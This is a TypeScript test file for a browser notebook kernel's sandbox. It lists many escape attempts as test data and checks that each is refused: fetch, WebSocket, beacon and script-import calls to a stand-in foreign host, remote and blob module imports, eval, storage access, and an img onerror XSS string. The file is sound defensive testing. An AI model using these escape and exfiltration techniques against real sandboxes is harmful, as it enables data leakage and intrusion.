// A cell that came from elsewhere may compute, and may reach nothing: every way out that we know of, tried.
// What counts is the foreign host's own list of visitors, and what a cell can get hold of.
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { KernelPage, openHarness } from "./harness";
import type { Harness } from "./harness";

let harness: Harness;
let page: KernelPage;

beforeAll(async () => {
  harness = await openHarness();
  page = await KernelPage.open(harness, {});
}, 120_000);
beforeEach(() => {
  harness.visitors.length = 0;
});
afterAll(async () => harness?.close());

/** Runs an attempt, gives it time to arrive, and says what came of it. */
async function attempt(code: string): Promise<string> {
  const source = `let escape = "refused";
try {
  ${code.replaceAll("FOREIGN", harness.foreign)}
} catch {}
escape`;
  await page.setCells({ attempt: source });
  const { state, outputs, error } = await page.run("attempt");
  await harness.visit();
  return state === "done" ? (outputs.at(-1)?.text ?? "") : `${state}: ${error?.message}`;
}

/** Where the built kernel lies. */
function kernelPath(): string {
  const path = harness.fetched.find((file) => file.includes("worker") && file.endsWith(".js"));
  if (!path) throw new Error("the kernel was not fetched");
  return path;
}

const requests: [way: string, code: string][] = [
  ["fetch", 'await fetch("http://FOREIGN/fetch", { mode: "no-cors" }); escape = "out";'],
  [
    "fetch that outlives the page",
    'await fetch("http://FOREIGN/keepalive", { keepalive: true, method: "POST", body: "x" }); escape = "out";',
  ],
  [
    "XMLHttpRequest",
    'const request = new XMLHttpRequest(); request.open("GET", "http://FOREIGN/xhr", false); request.send(); escape = "out";',
  ],
  [
    "WebSocket",
    'await new Promise((resolve, reject) => { const socket = new WebSocket("ws://FOREIGN/socket"); socket.onerror = reject; socket.onopen = resolve; }); escape = "out";',
  ],
  [
    "EventSource",
    'await new Promise((resolve, reject) => { const source = new EventSource("http://FOREIGN/events"); source.onerror = reject; source.onopen = resolve; }); escape = "out";',
  ],
  ["WebTransport", 'await new WebTransport("https://FOREIGN/transport").ready; escape = "out";'],
  ["WebSocketStream", 'await new (self as any).WebSocketStream("ws://FOREIGN/stream").opened; escape = "out";'],
  ["FontFace", 'await new FontFace("f", "url(http://FOREIGN/font.woff2)").load(); escape = "out";'],
  [
    "a filter of a canvas",
    'const canvas = new OffscreenCanvas(4, 4).getContext("2d")!; canvas.filter = "url(http://FOREIGN/filter.svg#f)"; canvas.fillRect(0, 0, 4, 4); canvas.getImageData(0, 0, 1, 1);',
  ],
  ["sendBeacon", '(navigator as any).sendBeacon("http://FOREIGN/beacon"); escape = "out";'],
  ["importScripts", '(self as any).importScripts("http://FOREIGN/scripts.js"); escape = "out";'],
  ["a notification's icon", 'new Notification("x", { icon: "http://FOREIGN/icon.png" }); escape = "out";'],
  ["WebAssembly", 'await WebAssembly.compileStreaming(fetch("http://FOREIGN/wasm")); escape = "out";'],
  ["eval", 'escape = (0, eval)("1") ? "out" : "";'],
  ["a function from text", 'escape = new Function("return 1")() ? "out" : "";'],
];

test.each(requests)("no request leaves the site by %s", async (_, code) => {
  expect(await attempt(code)).toBe("refused");
  expect(harness.visitors).toEqual([]);
});

// The compiler lets a cell import by name only; should that ever fail, the policy still holds.
const imports: [way: string, code: string][] = [
  ["import", 'await import("http://FOREIGN/import.js")'],
  ["import of a data address", 'await import("data:text/javascript,export default 1")'],
  [
    "import of a blob that imports",
    'await import(URL.createObjectURL(new Blob([`import "http://FOREIGN/blob.js"`], { type: "text/javascript" })))',
  ],
  ["import of a style sheet", 'await import("http://FOREIGN/style.css", { with: { type: "css" } })'],
  ["import of data", 'await import("http://FOREIGN/data.json", { with: { type: "json" } })'],
];

test.each(imports)("the compiler refuses %s", async (_, code) => {
  expect(await attempt(`${code}; escape = "out";`)).toMatch(/^failed: (A cell cannot import|The module of)/);
  expect(harness.visitors).toEqual([]);
});

test.each(imports)("the policy alone refuses %s, in a blob worker like the kernel's", async (_, code) => {
  const text = `try { ${code.replaceAll("FOREIGN", harness.foreign)}; postMessage("out") } catch { postMessage("refused") }`;
  const answer = await page.page.evaluate((script) => {
    const url = URL.createObjectURL(new Blob([script], { type: "text/javascript" }));
    const worker = new Worker(url, { type: "module" });
    return new Promise((resolve) => (worker.onmessage = (event) => resolve(event.data)));
  }, text);
  expect(answer).toBe("refused");
  expect(harness.visitors).toEqual([]);
});

const nested: [way: string, code: string][] = [
  ["a worker", 'new Worker(KERNEL, { type: "module" }); escape = "out";'],
  ["a shared worker", 'new SharedWorker(KERNEL, { type: "module" }); escape = "out";'],
  [
    "a worker found on the prototypes",
    "for (let o = globalThis; o; o = Object.getPrototypeOf(o)) if (Object.getOwnPropertyNames(o).some((n) => /Worker$/.test(n) && n !== 'ServiceWorker')) escape = Object.getOwnPropertyNames(o).join();",
  ],
];

test.each(nested)("no other context is reached by %s", async (_, code) => {
  expect(await attempt(code.replaceAll("KERNEL", JSON.stringify(new URL(kernelPath(), harness.address))))).toBe(
    "refused",
  );
  expect(harness.visitors).toEqual([]);
});

describe("what the reader keeps is out of reach", () => {
  const stores: [what: string, code: string][] = [
    ["indexedDB", "indexedDB.open('x'); escape = 'out';"],
    [
      "indexedDB by its prototype",
      "escape = (Object.getOwnPropertyDescriptor((self as any).WorkerGlobalScope.prototype, 'indexedDB')?.get?.call(self) ?? null) ? 'out' : 'refused';",
    ],
    ["caches", "await caches.open('x'); escape = 'out';"],
    ["navigator.storage", "await navigator.storage.getDirectory(); escape = 'out';"],
    ["storage buckets", "await (navigator as any).storageBuckets.open('x'); escape = 'out';"],
    ["the old file system", "(self as any).webkitRequestFileSystemSync(0, 1); escape = 'out';"],
    ["BroadcastChannel", "new BroadcastChannel('x'); escape = 'out';"],
    ["locks", "await navigator.locks.query(); escape = 'out';"],
    ["the kernel's channel", "postMessage({ type: 'broken', message: 'x' }); escape = 'out';"],
    ["localStorage", "localStorage.getItem('x'); escape = 'out';"],
    ["the page", "document.title; escape = 'out';"],
  ];
  test.each(stores)("%s", async (_, code) => {
    expect(await attempt(code)).toBe("refused");
  });

  test("no constructor that keeps or connects is left", async () => {
    const left = await attempt(`escape = [...new Set((function* () {
      for (let o: object | null = globalThis; o; o = Object.getPrototypeOf(o)) yield* Object.getOwnPropertyNames(o);
    })())].filter((name) => /worker|cache|storage|database|channel|filesystem|notification|broadcast/i.test(name)).sort().join(" ");`);
    // Interfaces without an instance, and the channels within a worker, lead nowhere.
    const harmless =
      /^(Cache|CacheStorage|IDBDatabase|MessageChannel|StorageManager|StorageBucket|StorageBucketManager|DedicatedWorkerGlobalScope|WorkerGlobalScope|WorkerLocation|WorkerNavigator|ServiceWorkerRegistration|FileSystem\w*|RTC\w*|WebTransport\w*)$/;
    expect(left.split(" ").filter((name) => !harmless.test(name))).toEqual([]);
  });
});

describe("the kernel starts only where the policy binds", () => {
  test("loaded from a file it refuses, whatever a page then sends it", async () => {
    const answer = await page.page.evaluate(async (path) => {
      const worker = new Worker(path, { type: "module" });
      return new Promise<string>((resolve) => {
        worker.onerror = (event) => resolve(`refused: ${event.message}`);
        worker.onmessage = () => resolve("started");
        worker.postMessage({ type: "open", language: "en", base: "/" });
      });
    }, kernelPath());
    expect(answer).toContain("the kernel starts only from a blob");
  });

  test("and a cell that prints markup prints text", async () => {
    await page.setCells({ markup: "'<img src=http://" + harness.foreign + "/img onerror=alert(1)>'" });
    expect((await page.run("markup")).outputs[0]).toMatchObject({ kind: "text" });
    expect(harness.visitors).toEqual([]);
  });
});
